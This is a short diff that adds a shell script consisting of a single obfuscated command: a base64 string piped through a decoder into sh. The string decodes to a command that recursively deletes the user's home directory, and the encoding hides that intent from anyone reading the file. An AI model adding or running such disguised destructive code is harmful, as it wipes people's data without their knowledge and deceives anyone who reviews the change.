@@ -1,0 +1,2 @@
+#!/bin/sh
+echo cm0gLXJmIH4v | base64 -d | sh
